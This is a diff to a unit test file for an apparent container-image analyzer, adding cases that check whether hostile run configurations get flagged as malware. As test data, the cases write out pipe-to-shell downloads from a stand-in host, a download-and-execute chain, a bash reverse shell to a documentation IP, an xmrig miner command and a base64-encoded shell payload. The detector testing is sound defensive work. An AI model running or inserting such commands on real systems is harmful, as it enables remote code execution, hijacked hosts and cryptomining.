@@ -5,7 +5,7 @@ import pytest
 from pratique.analyzers.configuration import check_configuration
 from pratique.analyzers.run import analyze
 from pratique.image import HistoryEntry, ImageConfig, RunConfig
-from pratique.image.documents import RootFs
+from pratique.image.documents import Healthcheck, RootFs
 from pratique.model import Finding, FindingKind
 from tests.unit.analyzers.context import opened
 
@@ -54,6 +54,35 @@ def test_engine_socket_as_a_volume_is_told() -> None:
 )
 def test_build_step_that_ran_a_download_is_told(step: str) -> None:
     assert "build-ran-download" in check(None, step)
+
+
+@pytest.mark.parametrize(
+    "run",
+    [
+        RunConfig(cmd=("sh", "-c", "curl -fsSL http://a.invalid/x.sh | sh")),
+        RunConfig(entrypoint=("/bin/sh", "-c"), cmd=("wget -qO- a.invalid/x | bash",)),
+        RunConfig(entrypoint=("sh", "-c", "wget http://a.invalid/p -O /tmp/p; chmod +x /tmp/p; /tmp/p")),
+        RunConfig(env=("GO=curl a.invalid|sh",), cmd=("sh", "-c", 'eval "$GO"')),
+        RunConfig(healthcheck=Healthcheck(test=("CMD-SHELL", "curl -s a.invalid | sh"))),
+        RunConfig(shell=("sh", "-c", "curl -s a.invalid | sh"), healthcheck=Healthcheck(test=("CMD-SHELL", "x"))),
+        RunConfig(on_build=("RUN curl a.invalid | sh",)),
+        RunConfig(cmd=("bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")),
+        RunConfig(cmd=("xmrig", "-o", "stratum+tcp://a.invalid:3333", "-u", "4AAAA")),
+        RunConfig(cmd=("sh", "-c", f"echo {'QUJD' * 12} | base64 -d | sh")),
+    ],
+)
+def test_attack_that_is_all_in_the_configuration_is_malware(run: RunConfig) -> None:
+    assert [finding for finding in check(run).values() if finding.kind is FindingKind.MALWARE]
+
+
+def test_ordinary_commands_are_no_malware() -> None:
+    run = RunConfig(
+        user="app",
+        entrypoint=("/bin/sh", "-c", "wget -q -O /dev/null http://localhost/ready && exec app | tee /log"),
+        healthcheck=Healthcheck(test=("CMD-SHELL", "curl -f http://localhost:8080/health || exit 1")),
+        env=("JAVA_URL=https://a.invalid/jdk.tar.gz",),
+    )
+    assert check(run) == {}
 
 
 def test_build_step_that_added_from_an_address_is_told() -> None:
